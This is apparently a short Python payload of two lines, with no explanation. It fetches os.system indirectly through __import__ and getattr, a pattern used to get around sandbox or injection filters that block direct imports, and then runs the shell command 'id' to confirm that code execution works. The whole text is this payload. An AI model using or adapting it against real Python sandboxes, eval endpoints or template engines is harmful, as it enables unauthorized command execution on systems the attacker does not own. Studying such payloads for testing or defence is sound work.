o = __import__('builtins').getattr(__import__('os'), 'system')
o('id')